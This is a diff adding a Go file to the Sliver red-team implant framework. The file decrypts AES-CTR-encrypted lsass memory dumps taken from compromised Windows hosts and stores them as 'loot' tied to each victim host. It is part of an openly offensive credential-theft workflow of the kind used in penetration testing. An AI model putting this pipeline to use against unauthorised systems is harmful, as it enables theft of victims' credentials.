@@ -0,0 +1,84 @@
+package loot
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"crypto/aes"
+	"crypto/cipher"
+	"errors"
+	"fmt"
+	"time"
+
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+var (
+	// ErrInvalidLsassDump - The decrypted dump isn't a minidump
+	ErrInvalidLsassDump = errors.New("lsass dump is not a minidump, wrong key?")
+
+	minidumpSignature = []byte("MDMP")
+)
+
+// SaveLsassDump - Decrypt an lsass dump with the key of its request and save it as
+// loot of the host, the encrypted data is cleared from the dump once it's saved
+func (l *LootStore) SaveLsassDump(hostUUID string, hostname string, req *sliverpb.LsassDumpReq, dump *sliverpb.LsassDump) (*clientpb.Loot, error) {
+	data, err := DecryptLsassDump(req.Key, dump.Data)
+	if err != nil {
+		return nil, err
+	}
+	fileName := fmt.Sprintf("lsass_%s_%d_%s.dmp", hostname, dump.Pid, time.Now().UTC().Format("20060102150405"))
+	name := fileName
+	if req.LootName != "" {
+		name = req.LootName
+	}
+	loot, err := l.Add(&clientpb.Loot{
+		Type:           clientpb.LootType_LOOT_FILE,
+		FileType:       clientpb.FileType_BINARY,
+		Name:           name,
+		OriginHostUUID: hostUUID,
+		File: &commonpb.File{
+			Name: fileName,
+			Data: data,
+		},
+	})
+	if err != nil {
+		return nil, err
+	}
+	dump.Data = nil
+	dump.LootID = loot.LootID
+	return loot, nil
+}
+
+// DecryptLsassDump - Dumps are encrypted with AES-256-CTR and a zero iv, each
+// dump has its own key
+func DecryptLsassDump(key []byte, data []byte) ([]byte, error) {
+	block, err := aes.NewCipher(key)
+	if err != nil {
+		return nil, err
+	}
+	plaintext := make([]byte, len(data))
+	cipher.NewCTR(block, make([]byte, aes.BlockSize)).XORKeyStream(plaintext, data)
+	if !bytes.HasPrefix(plaintext, minidumpSignature) {
+		return nil, ErrInvalidLsassDump
+	}
+	return plaintext, nil
+}